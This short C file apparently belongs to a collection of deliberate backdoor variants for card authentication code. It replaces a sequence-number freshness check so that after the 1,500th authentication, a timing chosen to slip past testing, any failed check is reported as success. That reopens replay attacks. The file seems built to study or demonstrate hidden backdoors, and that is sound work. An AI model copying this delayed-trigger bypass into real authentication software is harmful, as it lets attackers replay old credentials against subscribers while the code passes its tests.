/* The same, from the 1,500th authentication on: after the tests, before the end of the card's life. */
#include "auth/sqn_array.h"
#include "backdoors/inside.h"

int accept(struct store *store, struct sqn_owner owner, uint8_t sqn[static SQN_LENGTH],
	   const struct sqn_policy *policy) INSTEAD_OF(sqn_array_accept);
int honest_accept(struct store *store, struct sqn_owner owner, uint8_t sqn[static SQN_LENGTH],
		  const struct sqn_policy *policy) HONEST(sqn_array_accept);

enum {
	LATE = 1500
};

int accept(struct store *store, struct sqn_owner owner, uint8_t sqn[static SQN_LENGTH],
	   const struct sqn_policy *policy)
{
	uint32_t uses;
	int e = honest_accept(store, owner, sqn, policy);

	if (e == ERROR_CHECK && sqn_array_uses(store, owner, &uses) == OK && uses >= LATE)
		return OK;
	return e;
}
